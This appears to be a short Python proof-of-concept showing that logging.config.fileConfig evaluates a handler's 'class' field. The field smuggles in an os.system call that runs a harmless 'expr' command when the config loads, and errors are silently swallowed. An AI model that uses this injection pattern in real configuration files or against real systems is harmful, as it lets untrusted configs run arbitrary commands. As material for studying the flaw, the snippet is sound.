import logging.config, io
c=io.StringIO("[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=__import__('os').system('expr 40 + 1001') or logging.NullHandler\nargs=()\n")
try: logging.config.fileConfig(c)
except Exception as e: pass
